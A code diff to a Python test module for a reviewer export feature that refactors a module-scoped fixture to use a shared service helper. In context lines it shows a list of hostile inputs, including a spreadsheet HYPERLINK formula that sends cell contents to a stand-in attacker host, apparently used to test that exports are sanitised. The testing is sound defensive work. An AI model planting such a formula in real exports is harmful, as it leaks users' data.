@@ -25,7 +25,7 @@ from reviewer.export import (
 )
 from tests.live_service import LiveService
 from tests.reviewer.synckit import sign_in
-from tests.server.audit_kit import Clients, service_on_copy
+from tests.server.audit_kit import Clients, shared_week_service
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -84,9 +84,11 @@ def test_a_failed_write_leaves_no_file(tmp_path: Path) -> None:
 
 @pytest.fixture(scope="module")
 def week(
-    tmp_path_factory: pytest.TempPathFactory, live_service_template: Path
-) -> Iterator[tuple[LiveService, Clients]]:
-    yield from service_on_copy(tmp_path_factory, live_service_template, "export")
+    request: pytest.FixtureRequest,
+    tmp_path_factory: pytest.TempPathFactory,
+    live_service_template: Path,
+) -> tuple[LiveService, Clients]:
+    return shared_week_service(request, tmp_path_factory, live_service_template)
 
 
 def _audit(service: LiveService, user: str) -> AuditApi:
